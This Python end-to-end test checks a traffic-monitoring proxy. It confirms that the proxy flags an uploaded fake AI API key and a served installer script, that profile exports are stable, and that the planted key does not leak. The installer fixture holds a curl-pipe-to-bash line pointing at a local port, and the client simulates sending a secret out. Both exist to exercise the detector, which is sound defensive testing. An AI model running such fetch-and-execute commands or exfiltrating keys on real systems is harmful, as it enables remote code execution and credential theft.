"""Issue 4 acceptance on a live monitor: real mitmdump (scripts/start.py --background), a local
upstream on 127.0.0.1, a real client given the proxy through scripts/proxy-env.sh.

`query.py --since 1h --severity high | jq -r .pattern` lists the live findings, and two
`export-profile.py --output -` runs with nothing in between print identical bytes, with
monitor_status running and the listen address; after stop, monitor_status is stopped.
"""

from __future__ import annotations

import http.server
import json
import shutil
import subprocess
import sys
import time

import jsonschema
import pytest

import fakes
from canary import assert_no_leak
from conftest import SCRIPTS, run_script
from local_servers import UPSTREAMS_ARE_PUBLIC, free_port, serving
from traffic_guardian.home.config import BUNDLE_ROOT

pytestmark = pytest.mark.e2e

PLANTED_KEY = fakes.openai_project_key()
INSTALLER = b"#!/bin/sh\necho setting up\ncurl -fsSL http://127.0.0.1:9/i.sh | bash\n"
SCHEMA = json.loads((BUNDLE_ROOT / "config" / "posture.schema.json").read_text())


class Upstream(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_args):
        pass

    def do_GET(self):  # noqa: N802 - http.server's hook name
        self._reply(INSTALLER)

    def do_POST(self):  # noqa: N802
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self._reply(b"ok")

    def _reply(self, body: bytes):
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


CLIENT = r'''
import sys, urllib.request
base, key = sys.argv[1], sys.argv[2]
opener = urllib.request.build_opener(urllib.request.ProxyHandler())  # proxy from proxy-env.sh only
upload = urllib.request.Request(base + "/upload", data=("note=" + key).encode(), method="POST")
opener.open(upload, timeout=30).read()
opener.open(base + "/install.sh", timeout=30).read()
'''


@pytest.fixture
def upstream():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
    server.daemon_threads = True
    with serving(server):
        yield f"http://127.0.0.1:{server.server_address[1]}"


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not on PATH (scripts/test.sh installs it)")
def test_live_query_into_jq_and_identical_profile_exports(guardian_env, guardian_home, tmp_path, upstream):
    guardian_home.mkdir(parents=True)
    port = free_port()
    (guardian_home / "config.json").write_text(json.dumps({"listen_port": port, **UPSTREAMS_ARE_PUBLIC}))
    outputs = []
    started = run_script("start.py", "--background", env=guardian_env, timeout=90)
    try:
        outputs += [started.stdout, started.stderr]
        assert started.returncode == 0, started.stderr.decode(errors="replace")[-2000:]
        proxy = subprocess.run(["bash", str(SCRIPTS / "proxy-env.sh")], env=guardian_env, capture_output=True,
                               timeout=30)
        assert proxy.returncode == 0, proxy.stderr
        child_env = dict(guardian_env)
        for line in proxy.stdout.decode().splitlines():
            name, _, value = line.partition("=")
            if name:
                child_env[name] = value
        client = tmp_path / "client.py"
        client.write_text(CLIENT)
        ran = subprocess.run([sys.executable, str(client), upstream, PLANTED_KEY], env=child_env,
                             capture_output=True, timeout=60)
        outputs += [ran.stdout, ran.stderr]
        assert ran.returncode == 0, ran.stderr.decode(errors="replace")[-2000:]

        query = f'set -o pipefail; "{sys.executable}" "{SCRIPTS / "query.py"}" --since 1h --severity high'
        deadline = time.monotonic() + 30  # findings are written just after the exchange (scanner process)
        while True:
            patterns = subprocess.run(["bash", "-c", query + " | jq -r .pattern"], env=guardian_env,
                                      capture_output=True, timeout=60)
            outputs += [patterns.stdout, patterns.stderr]
            assert patterns.returncode == 0, patterns.stderr
            found = sorted(set(patterns.stdout.decode().split()))
            if found == ["ai_api_key", "pipe_to_shell"] or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        assert found == ["ai_api_key", "pipe_to_shell"]

        first = run_script("export-profile.py", "--output", "-", env=guardian_env)
        second = run_script("export-profile.py", "--output", "-", env=guardian_env)
        outputs += [first.stdout, first.stderr, second.stderr]
        assert first.returncode == second.returncode == 0
        assert first.stdout == second.stdout
        profile = json.loads(first.stdout)
        jsonschema.Draft202012Validator(SCHEMA).validate(profile)
        assert profile["monitor_status"] == "running"
        assert profile["listen"] == f"127.0.0.1:{port}"
        assert profile["findings"]["by_pattern"].keys() >= {"ai_api_key", "pipe_to_shell"}
        assert profile["generated_at"] == max(profile["monitor_started_at"], profile["last_finding_at"])
    finally:
        stopped = run_script("stop.py", env=guardian_env, timeout=60)
        outputs += [stopped.stdout, stopped.stderr]
    after = json.loads(run_script("export-profile.py", "--output", "-", env=guardian_env).stdout)
    assert after["monitor_status"] == "stopped" and after["listen"] is None
    assert after["finding_log_sha256"] == profile["finding_log_sha256"]
    assert_no_leak([PLANTED_KEY], guardian_home, outputs)
